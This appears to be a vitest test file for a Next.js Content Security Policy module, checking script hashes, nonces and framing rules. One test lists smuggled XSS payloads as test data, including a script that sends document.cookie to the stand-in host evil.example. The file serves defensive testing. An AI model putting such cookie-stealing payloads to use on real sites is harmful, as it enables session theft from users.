import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { nextInlineScriptHashes, noncePolicy, RESOURCE_POLICY, staticPagePolicy } from '@/lib/security/content-security-policy';

const sha = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;

function scriptSrc(policy: string): string {
  return policy.split('; ').find((d) => d.startsWith('script-src '))!;
}

// The inline scripts Next 16 writes into a page (taken from a built /kk/site/1).
const BOOT = '(self.__next_f=self.__next_f||[]).push([0])';
const FLIGHT = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[495201,[],\\"LanguageSwitch\\"]\\n"])';
const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/1jexzsn2qdw84.js"],"runtimeModuleIds":[37043]})';
const page = (body: string) =>
  `<!DOCTYPE html><html><head><script src="/_next/static/chunks/a.js" async=""></script><script id="_R_">${TURBOPACK}</script></head>` +
  `<body>${body}<script>${BOOT}</script><script>${FLIGHT}</script><script>${FLIGHT}</script></body></html>`;

describe('the policy of a stored page', () => {
  it("allows Next's own inline scripts by hash, each once, and nothing by 'unsafe-inline'", () => {
    expect(nextInlineScriptHashes(page('<main>hello</main>'))).toEqual([sha(TURBOPACK), sha(BOOT), sha(FLIGHT)]);
    const policy = staticPagePolicy(page(''));
    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(TURBOPACK)} ${sha(BOOT)} ${sha(FLIGHT)}`);
    expect(policy).not.toContain("'unsafe-inline' ");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
  });

  it('takes the statement form Next writes into its prerendered 404 (a trailing semicolon)', () => {
    expect(nextInlineScriptHashes(`<script>${TURBOPACK};</script><script>${FLIGHT};</script>`)).toEqual([sha(`${TURBOPACK};`), sha(`${FLIGHT};`)]);
  });

  it('leaves out a script smuggled into content, even one dressed as Next data', () => {
    const smuggled = [
      'alert(document.cookie)',
      'self.__next_f.push([1]);fetch("//evil.example/?"+document.cookie);self.__next_f.push([1])',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"a":1});alert(1);({"b":2})',
      `${BOOT};alert(1)`,
    ];
    const hashes = nextInlineScriptHashes(page(smuggled.map((code) => `<script>${code}</script>`).join('')));
    for (const code of smuggled) expect(hashes).not.toContain(sha(code));
    expect(hashes).toHaveLength(3);
  });

  it('hashes no external script, and a page without inline scripts allows only its own origin', () => {
    expect(nextInlineScriptHashes('<script src="/x.js">ignored()</script><script type="module" src="/y.js"></script>')).toEqual([]);
    expect(scriptSrc(staticPagePolicy('<p>no scripts</p>'))).toBe("script-src 'self'");
  });
});

describe('the other policies', () => {
  it('a page rendered now: its nonce and strict-dynamic for the chunks Next loads', () => {
    const policy = noncePolicy('bm9uY2U=');
    expect(scriptSrc(policy)).toBe("script-src 'self' 'nonce-bm9uY2U=' 'strict-dynamic'");
    expect(policy).toContain("frame-ancestors 'none'");
    // Styles may be inline (React style attributes); a nonce in style-src would disable that.
    expect(policy).toContain("style-src 'self' 'unsafe-inline'");
  });

  it('anything else loads nothing and is framed by nobody', () => {
    expect(RESOURCE_POLICY).toContain("default-src 'none'");
    expect(RESOURCE_POLICY).toContain("frame-ancestors 'none'");
  });
});
